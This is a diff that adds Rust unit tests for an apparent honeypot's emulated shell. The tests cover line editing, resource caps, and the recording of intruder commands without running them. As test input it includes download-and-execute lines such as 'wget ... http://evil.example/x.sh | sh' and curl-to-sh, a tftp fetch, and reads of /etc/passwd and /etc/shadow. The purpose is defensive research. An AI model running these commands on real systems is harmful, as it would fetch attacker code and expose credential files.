@@ -1,0 +1,312 @@
+//! Unit tests of the shell session: line editing, commands, effects, caps.
+
+use super::*;
+
+fn shell(tty: bool) -> Shell {
+    shell_with(tty, ShellLimits::default(), "root")
+}
+
+fn shell_with(tty: bool, limits: ShellLimits, user: &str) -> Shell {
+    let login = Login {
+        user: user.into(),
+        src: "203.0.113.9".parse().unwrap(),
+        now: 1_713_090_151,
+    };
+    Shell::new(Profile::new("web-prod-02"), &login, tty, limits)
+}
+
+fn text(b: &[u8]) -> String {
+    String::from_utf8_lossy(b).into_owned()
+}
+
+/// Runs one exec line; (stdout, stderr, exit, effects).
+fn exec(line: &str) -> (String, String, u32, Vec<Effect>) {
+    let mut s = shell(false);
+    let r = s.exec(line.as_bytes(), 1_713_090_200);
+    (text(&r.stdout), text(&r.stderr), r.exit.unwrap(), r.effects)
+}
+
+#[test]
+fn scripted_first_commands() {
+    let (out, err, code, eff) = exec("uname -a; cat /etc/passwd; wget http://x/y.sh");
+    assert!(out.starts_with(
+        "Linux web-prod-02 6.1.0-18-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 (2024-02-01) x86_64 GNU/Linux\nroot:x:0:0:root:/root:/bin/bash\n"
+    ), "{out}");
+    assert!(err.contains("Resolving x (x)... failed"), "{err}");
+    assert_eq!(code, 4);
+    assert_eq!(
+        eff,
+        vec![
+            Effect::Command("uname -a; cat /etc/passwd; wget http://x/y.sh".into()),
+            Effect::Download {
+                url: "http://x/y.sh".into(),
+                tool: "wget".into()
+            },
+        ]
+    );
+}
+
+#[test]
+fn info_commands() {
+    assert_eq!(exec("id").0, "uid=0(root) gid=0(root) groups=0(root)\n");
+    assert_eq!(exec("whoami").0, "root\n");
+    assert_eq!(exec("uname -r").0, "6.1.0-18-amd64\n");
+    assert_eq!(exec("uname -m").0, "x86_64\n");
+    assert_eq!(exec("uname").0, "Linux\n");
+    assert_eq!(
+        exec("uname -snrm").0,
+        "Linux web-prod-02 6.1.0-18-amd64 x86_64\n"
+    );
+    assert_eq!(exec("hostname").0, "web-prod-02\n");
+    assert_eq!(exec("nproc").0, "2\n");
+    assert_eq!(
+        exec("cat /proc/cpuinfo | grep 'model name' | wc -l").0,
+        "2\n"
+    );
+    assert!(exec("free -m").0.contains("Mem:"));
+    assert!(exec("df -h").0.contains("/dev/nvme0n1p1"));
+    assert!(exec("uptime").0.contains("load average"));
+    assert!(exec("w").0.contains("203.0.113.9"));
+    assert!(exec("ps aux").0.contains("/usr/sbin/sshd"));
+    assert!(exec("cat /etc/os-release").0.contains("bookworm"));
+    assert_eq!(exec("pwd").0, "/root\n");
+    assert_eq!(exec("echo hello   world").0, "hello world\n");
+    assert_eq!(
+        exec("echo -n a; echo -e 'b\\x41\\tc'").0,
+        "ab".to_owned() + "A\tc\n"
+    );
+    let (_, err, code, _) = exec("frobnicate --now");
+    assert_eq!(err, "bash: line 1: frobnicate: command not found\n");
+    assert_eq!(code, 127);
+}
+
+#[test]
+fn separators_and_status() {
+    assert_eq!(exec("false && echo a || echo b").0, "b\n");
+    assert_eq!(exec("true && echo a || echo b").0, "a\n");
+    assert_eq!(exec("cd /nope; echo $?").0, "1\n");
+    assert_eq!(exec("exit 3; echo never").2, 3);
+    assert_eq!(exec("echo hi | grep -c hi").0, "1\n");
+}
+
+#[test]
+fn files_in_the_overlay() {
+    let mut s = shell(false);
+    let r = s.exec(b"cd /tmp && echo abc > x && echo def >> x && cat x && chmod +x x && ls -l x && rm x && cat x", 1_713_090_300);
+    let out = text(&r.stdout);
+    assert!(
+        out.starts_with("abc\ndef\n-rwxr-xr-x 1 root root 8 Apr 14 10:25 x\n"),
+        "{out}"
+    );
+    assert_eq!(text(&r.stderr), "cat: x: No such file or directory\n");
+    let (out, _, _, _) = exec("mkdir -p /tmp/a/b && cd /tmp/a/b && pwd && cd .. && ls");
+    assert_eq!(out, "/tmp/a/b\nb\n");
+    let (out, _, _, _) = exec("ls /");
+    assert!(out.contains("etc\n") && out.contains("root\n"), "{out}");
+    let (out, _, _, _) = exec("ls -la /root");
+    assert!(
+        out.contains(".bashrc") && out.contains(" .\n") && out.contains("total "),
+        "{out}"
+    );
+    let (_, err, code, _) = exec("cat /etc");
+    assert_eq!((err.as_str(), code), ("cat: /etc: Is a directory\n", 1));
+    let (_, err, _, _) = exec("echo x > /proc/foo");
+    assert_eq!(err, "bash: line 1: /proc/foo: Permission denied\n");
+}
+
+#[test]
+fn downloads_are_recorded_never_fetched() {
+    let (_, err, code, eff) = exec("curl -sSL -o /tmp/a http://198.51.100.7:8080/a.sh | sh");
+    assert!(
+        err.contains("Failed to connect to 198.51.100.7 port 8080"),
+        "{err}"
+    );
+    assert_eq!(code, 0, "sh reading an empty pipe succeeds");
+    assert!(eff.contains(&Effect::Download {
+        url: "http://198.51.100.7:8080/a.sh".into(),
+        tool: "curl".into()
+    }));
+    let (_, _, _, eff) =
+        exec("cd /tmp; wget -q -O- http://evil.example/x.sh | sh; tftp -g -r bins.sh 203.0.113.1");
+    let downloads: Vec<_> = eff
+        .iter()
+        .filter(|e| matches!(e, Effect::Download { .. }))
+        .collect();
+    assert_eq!(downloads.len(), 2, "{eff:?}");
+    assert!(eff.contains(&Effect::Download {
+        url: "tftp://203.0.113.1/bins.sh".into(),
+        tool: "tftp".into()
+    }));
+    let (_, _, _, eff) = exec("sh -c 'wget http://203.0.113.2/a'");
+    assert!(eff.contains(&Effect::Download {
+        url: "http://203.0.113.2/a".into(),
+        tool: "wget".into()
+    }));
+}
+
+#[test]
+fn interactive_line_editing() {
+    let mut s = shell(true);
+    let g = text(&s.greeting().stdout);
+    assert!(g.contains("Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY"));
+    assert!(g.ends_with("root@web-prod-02:~# "), "{g}");
+    assert!(!g.contains("\n\n\r") && g.contains("\r\n"));
+    // Typing "whoamj", a backspace, "i", Enter.
+    let r = s.input(b"whoamj\x7fi\r", 1);
+    let out = text(&r.stdout);
+    assert_eq!(out, "whoamj\x08 \x08i\r\nroot\r\nroot@web-prod-02:~# ");
+    assert_eq!(r.effects, vec![Effect::Command("whoami".into())]);
+    // Arrow keys are ignored, Ctrl-C drops the line.
+    let r = s.input(b"ls\x1b[A\x1b[D\x03", 2);
+    assert!(text(&r.stdout).ends_with("^C\r\nroot@web-prod-02:~# "));
+    assert!(r.effects.is_empty());
+    // CR LF is one Enter; the prompt follows cd.
+    let r = s.input(b"cd /var/log\r\n", 3);
+    assert!(text(&r.stdout).ends_with("root@web-prod-02:/var/log# "));
+    let r = s.input(b"\x04", 4);
+    assert_eq!(text(&r.stdout), "logout\r\n");
+    assert_eq!(r.exit, Some(0));
+    assert!(s.ended());
+    assert!(s.input(b"id\r", 5).stdout.is_empty());
+}
+
+#[test]
+fn exit_in_interactive_session() {
+    let mut s = shell(true);
+    let r = s.input(b"echo one; exit 2; echo two\r", 1);
+    let out = text(&r.stdout);
+    let (typed, shown) = out.split_once("\r\n").unwrap();
+    assert_eq!(typed, "echo one; exit 2; echo two");
+    assert_eq!(shown, "one\r\nlogout\r\n");
+    assert_eq!(r.exit, Some(2));
+}
+
+#[test]
+fn piped_shell_without_terminal() {
+    let mut s = shell(false);
+    assert!(s.greeting().stdout.is_empty());
+    let r = s.input(b"echo a\r\nuname", 1);
+    assert_eq!(text(&r.stdout), "a\n");
+    let r = s.eof(2);
+    assert_eq!(text(&r.stdout), "Linux\n");
+    assert_eq!(r.exit, Some(0));
+    assert_eq!(r.effects, vec![Effect::Command("uname".into())]);
+}
+
+#[test]
+fn non_root_login() {
+    let mut s = shell_with(true, ShellLimits::default(), "pi");
+    let g = text(&s.greeting().stdout);
+    assert!(g.ends_with("pi@web-prod-02:~$ "), "{g}");
+    let r = s.input(b"id; cat /etc/shadow; pwd; tail -n 1 /etc/passwd\r", 1);
+    let out = text(&r.stdout);
+    assert!(out.contains("uid=1000(pi)"), "{out}");
+    assert!(out.contains("cat: /etc/shadow: Permission denied"), "{out}");
+    assert!(out.contains("/home/pi\r\n"), "{out}");
+    assert!(
+        out.contains("pi:x:1000:1000:pi,,,:/home/pi:/bin/bash"),
+        "{out}"
+    );
+    // A weird user name becomes root.
+    let s = shell_with(true, ShellLimits::default(), "Robert'); DROP");
+    assert_eq!(s.st.user, "root");
+}
+
+#[test]
+fn caps() {
+    let limits = ShellLimits {
+        max_line: 16,
+        max_commands: 3,
+        max_line_output: 64,
+        max_session_output: 1 << 20,
+        overlay: fs::OverlayLimits {
+            max_bytes: 128,
+            max_entries: 4,
+        },
+    };
+    let mut s = shell_with(false, limits, "root");
+    let r = s.input(b"echo 0123456789abcdefghijklmnop\n", 1);
+    assert_eq!(text(&r.stdout), "0123456789a\n");
+    assert!(r.effects.iter().any(|e| matches!(
+        e,
+        Effect::Limit {
+            limit: "shell_line",
+            ..
+        }
+    )));
+    let r = s.input(b"cat /etc/passwd\n", 2);
+    assert_eq!(r.stdout.len(), 64);
+    assert!(r.effects.iter().any(|e| matches!(
+        e,
+        Effect::Limit {
+            limit: "shell_output",
+            ..
+        }
+    )));
+    let r = s.input(b"echo x > /tmp/a\n", 3);
+    assert!(r.stderr.is_empty());
+    let r = s.input(b"id\n", 4);
+    assert!(r.effects.iter().any(|e| matches!(
+        e,
+        Effect::Limit {
+            limit: "shell_commands",
+            ..
+        }
+    )));
+    assert_eq!(r.exit, Some(1));
+    assert!(s.ended());
+
+    let limits = ShellLimits {
+        overlay: fs::OverlayLimits {
+            max_bytes: 128,
+            max_entries: 4,
+        },
+        ..ShellLimits::default()
+    };
+    let mut s = shell_with(false, limits, "root");
+    let r = s.exec(b"echo 01234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789 > /tmp/big", 1);
+    assert_eq!(
+        text(&r.stderr),
+        "bash: line 1: /tmp/big: No space left on device\n"
+    );
+}
+
+#[test]
+fn arbitrary_input_never_panics() {
+    use proptest::prelude::*;
+    let mut runner = proptest::test_runner::TestRunner::new(proptest::test_runner::Config {
+        cases: 64,
+        ..Default::default()
+    });
+    runner
+        .run(&proptest::collection::vec(any::<u8>(), 0..2000), |input| {
+            for tty in [true, false] {
+                let mut s = shell(tty);
+                let _ = s.greeting();
+                for chunk in input.chunks(37) {
+                    let _ = s.input(chunk, 10);
+                }
+                let _ = s.eof(11);
+                let mut s = shell(false);
+                let _ = s.exec(&input, 12);
+            }
+            Ok(())
+        })
+        .unwrap();
+    // Lines built from the command vocabulary reach deeper than random bytes.
+    let words = [
+        "ls", "-la", "cd", "..", "/", "cat", "echo", ">", ">>", "|", "&&", "||", ";", "rm", "-rf",
+        "mkdir", "-p", "a/b", "chmod", "777", "'", "\"", "$HOME", "wget", "curl", "sh", "-c",
+        "2>&1", "exit", "<", "/tmp/x", "~", "grep", "head", "-n", "wc",
+    ];
+    runner
+        .run(&proptest::collection::vec(0..words.len(), 0..24), |idx| {
+            let line: Vec<&str> = idx.iter().map(|&i| words[i]).collect();
+            let mut s = shell(true);
+            let _ = s.input(format!("{}\r", line.join(" ")).as_bytes(), 1);
+            let mut s = shell(false);
+            let _ = s.exec(line.join(" ").as_bytes(), 1);
+            Ok(())
+        })
+        .unwrap();
+}
